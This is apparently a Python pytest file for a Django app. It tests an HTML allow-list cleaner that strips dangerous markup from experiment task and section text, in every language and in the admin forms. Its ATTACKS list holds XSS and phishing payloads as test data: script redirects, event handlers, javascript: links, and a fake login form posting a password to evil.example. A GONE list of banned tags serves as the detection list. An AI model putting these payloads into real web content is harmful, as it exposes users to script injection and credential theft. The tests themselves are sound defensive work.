"""Definition HTML is cleaned by an allow-list (threats/html.py) on load and on admin save; shipped HTML stays."""

import json
from pathlib import Path

import pytest
from django.contrib import admin
from django.core.management import call_command

from experiment import definition
from tests.test_definition import minimal, sheet_in, write
from threats.forms import MaterialSectionForm, ScenarioForm
from threats.html import clean_html
from threats.models import Diagram, MaterialSection, Scenario

FIXTURES = sorted((Path(__file__).resolve().parent.parent / "fixtures").glob("*.json"))

ATTACKS = [
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    "<script>location = 'https://evil.example/'</script>",
    '<iframe src="https://evil.example/"></iframe>',
    '<img src="x" onerror="alert(1)">',
    '<p onclick="alert(1)" style="background: url(https://evil.example/)">text</p>',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<object data="https://evil.example/x.swf"></object><embed src="x"><base href="https://evil.example/">',
    "<svg><script>alert(1)</script></svg><math><mtext><style>x</style></mtext></math>",
    "<!-- <script>alert(1)</script> -->",
]
GONE = ["<meta", "<form", "<input", "<button", "<script", "<iframe", "<img", "onerror", "onclick", "style="]
GONE += ["javascript:", "<object", "<embed", "<base", "<svg", "<math", "<!--"]


def written_html(data: dict) -> list[str]:
    """Every HTML text of a definition as written: the task and the sections, in each language."""
    scenario = data["scenario"]
    values = [scenario["task_html"], *(section["body_html"] for section in scenario["sections"])]
    return [text for value in values for text in (value.values() if isinstance(value, dict) else [value])]


def validated_html(data: dict) -> list[str]:
    """The same texts after validation, which moved the translations into each object's ``translations``."""
    scenario = data["scenario"]
    fields = [(scenario, "task_html"), *((section, "body_html") for section in scenario["sections"])]
    return [
        text
        for obj, name in fields
        for text in [obj[name], *(texts[name] for texts in obj.get("translations", {}).values() if name in texts)]
    ]


@pytest.mark.parametrize("path", FIXTURES, ids=lambda path: path.name)
def test_cleaning_leaves_every_shipped_definition_unchanged(path):
    written = written_html(json.loads(path.read_text(encoding="utf-8")))
    assert len(written) >= 5
    assert [clean_html(html) for html in written] == written
    assert sorted(validated_html(definition.read_file(path))) == sorted(written)


@pytest.mark.django_db
@pytest.mark.parametrize("attack", ATTACKS)
def test_loading_cleans_the_task_and_every_section_in_every_language(tmp_path, attack):
    data = sheet_in(minimal(), "nl")
    data["scenario"]["task_html"] = f"<p>Task</p>{attack}"
    data["scenario"]["sections"][0]["body_html"] = {"en": f"<p>x</p>{attack}", "nl": f"<p>y</p>{attack}"}
    call_command("load_experiment", write(tmp_path, data))
    scenario = Scenario.objects.get(slug="scen")
    section = MaterialSection.objects.get(scenario=scenario)
    stored = [scenario.task_html, section.body_html, section.translations["nl"]["body_html"]]
    for html in stored:
        assert not any(bad in html.lower() for bad in GONE), html
    assert stored[0].startswith("<p>Task</p>") and stored[1].startswith("<p>x</p>") and stored[2].startswith("<p>y</p>")


@pytest.mark.django_db
def test_a_link_keeps_its_address_and_opens_without_an_opener(tmp_path):
    data = minimal()
    data["scenario"]["sections"][0]["body_html"] = '<p>See <a href="https://example.org/x" target="_top">x</a>.</p>'
    call_command("load_experiment", write(tmp_path, data))
    assert MaterialSection.objects.get().body_html == (
        '<p>See <a href="https://example.org/x" rel="noopener noreferrer">x</a>.</p>'
    )


@pytest.mark.django_db
def test_svg_diagrams_are_stored_as_written_not_cleaned_as_html(tmp_path):
    # Served as images (image/svg+xml with its own CSP), where scripts never run; cleaning as HTML would break them.
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><style>rect{fill:red}</style><rect width="5" height="5"/></svg>'
    data = minimal()
    data["scenario"]["diagrams"][0]["svg"] = svg
    call_command("load_experiment", write(tmp_path, data))
    assert Diagram.objects.get(slug="sequence").svg == svg


@pytest.mark.django_db
def test_the_admin_forms_clean_the_html_and_its_translations(experiment):
    scenario = experiment.scenario
    attack = '<meta http-equiv="refresh" content="0; url=https://evil.example/"><p onclick="x()">Task</p>'
    translations = json.dumps({"nl": {"task_html": attack}})
    form = ScenarioForm(
        {"slug": scenario.slug, "title": scenario.title, "task_html": attack, "translations": translations},
        instance=scenario,
    )
    assert form.is_valid(), form.errors
    assert form.cleaned_data["task_html"] == "<p>Task</p>"
    assert form.cleaned_data["translations"] == {"nl": {"task_html": "<p>Task</p>"}}
    section = MaterialSection(scenario=scenario, position=99)
    data = {
        "scenario": scenario.pk,
        "position": 99,
        "title": "S",
        "body_html": attack,
        "video_url": "",
        "translations": "{}",
    }
    form = MaterialSectionForm(data, instance=section)
    assert form.is_valid(), form.errors
    assert form.cleaned_data["body_html"] == "<p>Task</p>"


@pytest.mark.django_db
def test_the_admin_refuses_a_javascript_video_link(experiment):
    section = MaterialSection(scenario=experiment.scenario, position=99)
    data = {
        "scenario": experiment.scenario.pk,
        "position": 99,
        "title": "S",
        "body_html": "<p>x</p>",
        "video_url": "javascript:alert(1)",
        "translations": "{}",
    }
    form = MaterialSectionForm(data, instance=section)
    assert not form.is_valid()
    assert form.errors["video_url"] == ["Use an http(s) address or a path on this site (/...)."]


def test_the_admin_uses_the_cleaning_forms():
    scenario_admin = admin.site.get_model_admin(Scenario)
    assert scenario_admin.form is ScenarioForm
    assert [inline.form for inline in scenario_admin.inlines if inline.model is MaterialSection] == [
        MaterialSectionForm
    ]
